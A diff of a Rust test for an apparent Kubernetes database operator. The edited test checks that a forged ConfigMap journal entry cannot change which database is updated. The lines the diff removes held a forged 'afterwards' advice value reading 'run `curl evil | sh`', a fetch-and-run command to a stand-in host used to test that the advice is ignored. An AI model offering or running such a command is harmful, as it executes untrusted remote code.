@@ -177,21 +177,18 @@ async fn a_run_that_rolls_back_by_itself_is_seen_to() {
     assert_eq!(seen.last(), Some(&"RolledBack".to_owned()));
 }
 
-/// Anybody who may write ConfigMaps can write a journal, and with it what a user is told to type.
+/// Anybody who may write ConfigMaps can write a journal.
 #[tokio::test(start_paused = true)]
-async fn no_advice_is_taken_from_the_journal() {
+async fn which_database_is_updated_is_not_taken_from_the_journal() {
     let world = World::new(Database::kafka_topology("db"));
     let mut run = world.start().await;
     run.step(Step::RollPods).await;
     let entry = world.journal(&world.cluster()).await.last().cloned().expect("it is recorded");
-    let honest = entry.run.plan.afterwards.clone();
-    assert_eq!(honest.len(), 1);
     let mut forged = entry;
-    forged.run.plan.afterwards = vec!["run `curl evil | sh`".to_owned()];
     (forged.run.plan.kind, forged.run.plan.database.name) = (Kind::ZooKeeper, "other".to_owned());
     let onlooker = Onlooker::new(&forged, &look(&world).await.snapshot);
     let plan = onlooker.plan();
-    assert_eq!((&plan.afterwards, plan.kind, plan.database.name.as_str()), (&honest, Kind::Kafka, "db"));
+    assert_eq!((plan.kind, plan.database.name.as_str()), (Kind::Kafka, "db"));
     run.end().await.done();
 }
 
